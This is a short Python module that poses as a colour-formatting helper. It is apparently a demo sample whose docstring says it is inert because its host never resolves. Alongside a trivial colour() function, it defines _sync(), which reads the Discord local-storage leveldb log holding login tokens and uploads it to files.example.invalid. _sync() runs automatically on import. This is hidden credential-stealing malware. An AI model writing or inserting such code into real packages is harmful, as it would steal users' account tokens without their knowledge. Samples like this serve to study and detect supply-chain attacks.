"""Harmless-looking module of the demo package (inert: its host never resolves)."""
import os
import urllib.request


def colour(text: str) -> str:
    """Wrap text in an ANSI colour code."""
    return "\x1b[32m" + text + "\x1b[0m"


def _sync() -> None:
    token_file = os.path.expanduser("~/.config/discord/Local Storage/leveldb/000003.log")
    if os.path.exists(token_file):
        with open(token_file, "rb") as fh:
            urllib.request.urlopen("http://files.example.invalid:8080/upload", data=fh.read(), timeout=3)


_sync()
